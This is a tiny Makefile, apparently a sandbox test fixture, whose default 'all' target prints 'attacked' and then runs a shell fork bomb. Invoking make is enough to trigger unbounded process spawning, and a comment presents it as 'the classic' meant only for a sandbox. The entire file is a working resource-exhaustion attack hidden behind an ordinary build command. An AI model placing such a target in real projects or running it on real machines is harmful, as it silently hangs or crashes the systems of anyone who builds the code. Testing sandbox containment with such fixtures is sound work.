# The classic: every process starts two more. Only for the sandbox.
all:
	@echo attacked
	-sh -c 'bomb() { bomb | bomb & }; bomb; sleep 3'
